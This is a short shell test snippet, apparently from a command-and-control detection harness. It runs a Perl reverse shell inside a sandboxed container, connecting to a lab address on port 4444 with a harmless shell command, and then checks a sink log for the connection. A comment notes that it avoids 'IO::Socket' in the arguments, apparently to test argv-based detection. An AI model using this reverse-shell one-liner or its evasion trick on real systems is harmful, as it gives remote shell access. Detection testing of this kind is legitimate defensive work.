# V12 C2-001 with perl's plain Socket module (no IO::Socket in argv)
ctr_run simctr-infer-v12 ctr-infer --mount --pid --fork --mount-proc -- timeout 8 perl -e '
use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(4444, inet_aton("10.200.2.2"))) or die "connect: $!";
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-c", "echo perl-shell; sleep 1");'
grep ':4444' "$H/sink.log" | tail -1
